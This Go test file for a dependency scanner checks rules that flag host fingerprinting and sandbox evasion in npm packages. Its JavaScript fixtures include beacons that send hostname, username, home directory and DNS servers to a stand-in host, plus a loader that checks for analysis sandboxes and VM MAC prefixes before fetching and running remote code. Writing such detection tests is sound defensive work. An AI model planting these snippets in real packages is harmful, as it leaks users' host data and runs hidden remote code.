package recon

import (
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

func TestFingerprint(t *testing.T) {
	rt.Check(t, Fingerprint{}, []rt.Case{
		{"beacon_payload", map[string]string{"index.js": `const os=require("os"),dns=require("dns");fetch("https://c.example.invalid/b",{method:"POST",body:JSON.stringify({h:os.hostname(),u:os.userInfo().username,d:os.homedir(),s:dns.getServers()})})`}, finding.SeverityHigh},
		// the request in another file of the package
		{"beacon_sent_elsewhere", map[string]string{"index.js": `const os=require("os"),dns=require("dns");require("./send")(JSON.stringify({h:os.hostname(),u:os.userInfo().username,d:os.homedir(),s:dns.getServers()}))`,
			"send.js": `module.exports = (b) => require("https").request({ hostname: "c.example.invalid", method: "POST" }).end(b)`}, finding.SeverityHigh},
		// a metrics exporter pushing to the URL its user sets
		{"exporter_user_url", map[string]string{"index.js": `const os=require("os"),dns=require("dns");module.exports=(url)=>fetch(url,{method:"POST",body:JSON.stringify({h:os.hostname(),u:os.userInfo().username,d:os.homedir(),s:dns.getServers()})})`}, finding.SeverityMedium},
		{"two_facts", map[string]string{"index.js": `const os=require("os");log(os.hostname(), os.userInfo())`}, finding.SeverityMedium},
		{"logger_hostname", map[string]string{"index.js": `const os=require("os");module.exports={host: os.hostname()}`}, finding.SeverityInfo},
		// sizing a worker pool, finding a config file, anonymous telemetry
		{"worker_pool", map[string]string{"index.js": `const os=require("os");const n=Math.max(1, os.cpus().length-1), big=os.totalmem()>8e9, rel=os.release()`}, finding.SeverityInfo},
		{"config_lookup", map[string]string{"index.js": `const os=require("os"),path=require("path");const rc=path.join(os.homedir(),".toolrc"), n=os.cpus().length`}, finding.SeverityInfo},
		// next to one identity fact they are telemetry (low), next to two a
		// fingerprint
		{"telemetry", map[string]string{"index.js": `const os=require("os");post({h:os.hostname(),c:os.cpus(),m:os.totalmem(),r:os.release()})`}, finding.SeverityLow},
		{"beacon_with_platform", map[string]string{"index.js": `const os=require("os");post({h:os.hostname(),u:os.userInfo().username,c:os.cpus(),r:os.release()}); function post(b){ require("https").request("https://c.example.invalid/p",{method:"POST"}).end(JSON.stringify(b)) }`}, finding.SeverityHigh},
		// a monitoring endpoint answers with the host's figures; the same
		// figures sent out by the server's file are reconnaissance
		{"monitor_endpoint", map[string]string{"index.js": `const os=require("os");require("http").createServer((q,res)=>res.end(JSON.stringify({h:os.hostname(),i:os.networkInterfaces(),c:os.cpus(),m:os.totalmem()}))).listen(9615)`}, finding.SeverityMedium},
		{"monitor_endpoint_posts", map[string]string{"index.js": `const os=require("os"),http=require("http");http.createServer(()=>{}).listen(1);http.request({host:"c.example.invalid",method:"POST"}).end(JSON.stringify({h:os.hostname(),i:os.networkInterfaces(),c:os.cpus(),m:os.totalmem()}))`}, finding.SeverityHigh},
		// the user name twice (os.userInfo and $USER) is one fact
		{"user_twice", map[string]string{"index.js": `const os=require("os");const u=process.env.USER||os.userInfo().username, home=os.homedir()`}, finding.SeverityLow},
		{"host_env_and_user", map[string]string{"index.js": `const os=require("os");log(process.env.HOSTNAME, os.userInfo().username)`}, finding.SeverityMedium},
		{"platform_only", map[string]string{"index.js": `const os=require("os");if (os.platform()==="win32") {}`}, finding.SeverityNone},
	})
}

func TestSandboxCheck(t *testing.T) {
	const names = `const os = require("os");
const NAMES = /^(sandbox|malware|maltest|wdagutilityaccount|hapubws|john doe)$/i;
exports.watched = () => NAMES.test(os.userInfo().username)`
	const vm = `
const VM_MACS = /^(08:00:27|00:0c:29|00:50:56)/i;
exports.vm = () => Object.values(os.networkInterfaces()).flat().some((a) => VM_MACS.test(a.mac))`
	const loader = `const v = require("./virt"); if (!v.watched()) fetch("https://c.example.invalid/s.js").then((r) => r.text()).then((s) => new Function("require", s)(require))`
	rt.Check(t, SandboxCheck{}, []rt.Case{
		{"names_vm_and_loader", map[string]string{"lib/virt.js": names + vm, "lib/index.js": loader}, finding.SeverityCritical},
		{"names_and_loader", map[string]string{"lib/virt.js": names, "lib/index.js": loader}, finding.SeverityHigh},
		// the code Function runs is its last argument
		{"names_and_function", map[string]string{"lib/virt.js": names, "lib/index.js": `const v = require("./virt"); if (!v.watched()) Function("require", atob(process.argv[2]))(require)`}, finding.SeverityHigh},
		{"names_and_vm", map[string]string{"lib/virt.js": names + vm}, finding.SeverityHigh},
		{"names_only", map[string]string{"lib/virt.js": names}, finding.SeverityMedium},
		// a system information library telling what hardware it runs on
		{"vm_detection_only", map[string]string{"lib/system.js": `const fs = require("fs"), os = require("os");
const VENDORS = ["VirtualBox", "VMware", "QEMU", "KVM", "Xen"];
exports.virtual = () => { const p = fs.readFileSync("/sys/class/dmi/id/product_name", "utf8"); return VENDORS.some((v) => p.includes(v)) || /^(08:00:27|00:0c:29)/.test(os.networkInterfaces().eth0[0].mac) }`}, finding.SeverityNone},
		// the words alone: an iframe's sandbox, a scanner's messages
		{"words_only", map[string]string{"lib/scan.js": `exports.attrs = { sandbox: "allow-scripts" }; exports.msg = ["malware found", "virus signature", "CurrentUser store"]; fetch(u)`}, finding.SeverityNone},
	})
}
